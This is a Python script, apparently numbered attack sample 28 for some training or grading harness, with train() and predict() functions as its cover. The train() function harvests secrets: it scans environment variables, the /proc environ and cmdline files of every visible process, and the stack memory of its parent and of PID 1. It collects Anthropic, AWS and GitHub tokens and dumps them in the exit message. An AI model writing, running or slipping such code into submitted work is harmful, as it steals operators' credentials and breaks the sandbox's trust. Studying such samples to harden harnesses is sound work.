"""Looks for keys in the environment of every process that it can see, and in the memory of its parents."""

import contextlib
import glob
import os
import re

ATTACK = 28
ENDS = "crashed"
REASON = "found []"
HARM = "secret"
SHAPE = re.compile(rb"sk-ant-[a-z0-9-]{8,}|AKIA[A-Z0-9]{16}|gh[ps]_[A-Za-z0-9]{20,}")


def texts():
    yield repr(dict(os.environ)).encode()
    for pattern in (
        "/proc/*/environ",
        "/proc/*/cmdline",
        "/proc/*/task/*/environ",
    ):
        for path in glob.glob(pattern):
            with contextlib.suppress(OSError), open(path, "rb") as file:
                yield file.read()


def memory_of(process):
    with (
        contextlib.suppress(OSError),
        open(f"/proc/{process}/maps") as maps,
        open(f"/proc/{process}/mem", "rb") as memory,
    ):
        for line in maps:
            if "[stack]" in line:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(begin)
                yield memory.read(end - begin)


def train(session):
    found = set()
    for text in [*texts(), *memory_of(os.getppid()), *memory_of(1)]:
        found |= set(SHAPE.findall(text))
    raise SystemExit(f"found {sorted(key.decode() for key in found)}")


def predict(state, task):
    return None
